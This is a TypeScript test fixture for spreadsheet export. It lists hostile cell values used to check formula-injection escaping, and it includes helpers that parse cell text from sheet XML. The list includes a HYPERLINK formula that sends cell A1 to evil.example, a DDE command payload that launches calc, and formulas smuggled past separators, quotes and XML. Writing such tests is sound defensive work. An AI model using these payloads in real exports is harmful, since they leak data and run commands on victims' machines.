/** Texts of a vendor that a spreadsheet could take for something else. */
export const hostile: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1,1)',
  ' =1+1',
  '\u200B=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'x;=1+1',
  'x; +1',
  'x;=HYPERLINK("https://evil.example","y")',
  '","=1+1","',
  '"=1+1',
  "'=1+1",
  '+49 89 5550 1234',
  '00123',
  '1E5',
  '2026-11-26',
  '_x003D_1+1',
  '<f>1+1</f>',
  ']]>&amp;<c><f>1+1</f></c>',
  'a\u0000b',
  'Müller, Ann "the boss"',
  'محمد',
  '😀',
];

export async function bytesOf(chunks: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const parts: Uint8Array[] = [];
  for await (const chunk of chunks) parts.push(chunk);
  return Buffer.concat(parts);
}

const entities: Readonly<Record<string, string>> = { amp: '&', lt: '<', gt: '>', quot: '"' };

/** The texts of the cells of a sheet, row by row. */
export function cellsIn(sheet: string): string[][] {
  return Array.from(sheet.matchAll(/<row [^>]*>(.*?)<\/row>/g), ([, row = '']) =>
    Array.from(row.matchAll(/<(?:t|v)(?: [^>]*)?>(.*?)<\/(?:t|v)>/g), ([, text = '']) =>
      text.replace(/&(amp|lt|gt|quot);/g, (_, name: string) => entities[name] ?? '').replaceAll('_x005F_', '_'),
    ),
  );
}
